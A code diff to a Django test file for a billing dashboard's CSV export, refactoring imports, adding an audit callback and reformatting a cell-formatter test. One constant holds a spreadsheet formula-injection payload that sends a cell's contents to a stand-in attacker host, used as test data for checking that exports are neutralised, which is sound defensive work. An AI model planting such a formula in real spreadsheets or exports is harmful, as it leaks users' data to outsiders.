@@ -17,16 +17,11 @@ from django.test import RequestFactory
 
 from dashboard.accounts.tokens import StoredTokenProvider
 from dashboard.audit.models import AuditRecord
-from dashboard.core import export
-from dashboard.core.export import (
-    ExportColumn,
-    csv_cell,
-    csv_export_response,
-    export_link,
-    export_search_csv,
-    ledger_entry_export_columns,
-    payment_token_export_columns,
-)
+from dashboard.audit.services import record_export
+from dashboard.core.export import stream as export
+from dashboard.core.export.cells import ExportColumn, csv_cell
+from dashboard.core.export.response import csv_export_response, export_link, export_search_csv
+from dashboard.ledger.tables import LedgerEntryTable
 from dashboard.nexudus.client import NexudusClient
 from dashboard.nexudus.errors import NexudusRateLimited, NexudusServerError
 from dashboard.nexudus.queries import PaymentTokenQuery
@@ -34,6 +29,10 @@ from dashboard.payment_tokens.forms import PaymentTokenSearchForm
 from dashboard.payment_tokens.tables import PaymentTokenTable
 
 from .fakes import FakePaymentTokenSearch, make_tokens
+
+# Each feature's CSV columns are its table's (one definition per column).
+payment_token_export_columns = PaymentTokenTable.export_columns
+ledger_entry_export_columns = LedgerEntryTable.export_columns
 
 TOKENS_API = "/api/billing/coworkerinvoicepaymenttokens"
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
@@ -97,6 +96,7 @@ def test_a_multi_page_export_is_the_union_of_the_pages_masked_and_neutralised(op
         columns=payment_token_export_columns(),
         resource="payment_token",
         filename_prefix="payment-tokens",
+        on_finished=record_export,  # as the payment token list wires it
     )
     assert response["Content-Type"] == "text/csv; charset=utf-8"
     assert 'attachment; filename="payment-tokens-' in response["Content-Disposition"]
@@ -130,6 +130,7 @@ def test_invalid_filters_go_back_to_the_listing_without_asking_nexudus(person):
         columns=payment_token_export_columns(),
         resource="payment_token",
         filename_prefix="payment-tokens",
+        on_finished=record_export,  # as the payment token list wires it
     )
     assert response.status_code == 302 and "export" not in response["Location"]
     assert search.queries == []
@@ -146,6 +147,7 @@ def stream(person, search, query=None, **settings_kwargs):
         columns=payment_token_export_columns(),
         resource="payment_token",
         filename_prefix="payment-tokens",
+        on_finished=record_export,  # as the payment token list wires it
     )
 
 
@@ -188,17 +190,37 @@ def test_the_next_page_is_fetched_while_this_one_is_written(person, settings):
     assert [page for page, event in started.items() if event.is_set()] == [1, 2, 3]
 
 
-@pytest.mark.parametrize("value", [
-    None, "", "plain", "=1+1", "-5", "@x", "\tx", True, False, 0, -12, 10**20, Decimal("1E+3"), Decimal("-0.50"),
-    1.5, float("nan"), datetime(2025, 7, 1, 8, 30, 15, tzinfo=UTC), datetime(2025, 1, 1, 0, 0, 0),
-    datetime(999, 1, 1, tzinfo=UTC), datetime(2025, 3, 30, 0, 59, 59, 999999, tzinfo=UTC),
-])
+@pytest.mark.parametrize(
+    "value",
+    [
+        None,
+        "",
+        "plain",
+        "=1+1",
+        "-5",
+        "@x",
+        "\tx",
+        True,
+        False,
+        0,
+        -12,
+        10**20,
+        Decimal("1E+3"),
+        Decimal("-0.50"),
+        1.5,
+        float("nan"),
+        datetime(2025, 7, 1, 8, 30, 15, tzinfo=UTC),
+        datetime(2025, 1, 1, 0, 0, 0),
+        datetime(999, 1, 1, tzinfo=UTC),
+        datetime(2025, 3, 30, 0, 59, 59, 999999, tzinfo=UTC),
+    ],
+)
 def test_the_fast_cell_formatter_writes_what_csv_cell_writes(value):
     from zoneinfo import ZoneInfo
 
     from django.utils import timezone
 
-    from dashboard.core.export import fast_csv_cell
+    from dashboard.core.export.cells import fast_csv_cell
     from dashboard.nexudus.enums import PaymentProvider
 
     with timezone.override(ZoneInfo("Europe/London")):
@@ -322,7 +344,7 @@ def test_cells_are_spreadsheet_safe_and_numbers_stay_numbers(value, cell):
 
 
 def test_ledger_columns_keep_money_plain_with_a_separate_currency(person):
-    from tests.lookup.test_verdict import payment
+    from tests.invoices.test_verdict import payment
 
     entry = payment(None, datetime(2025, 1, 15, tzinfo=UTC))
     columns = ledger_entry_export_columns()
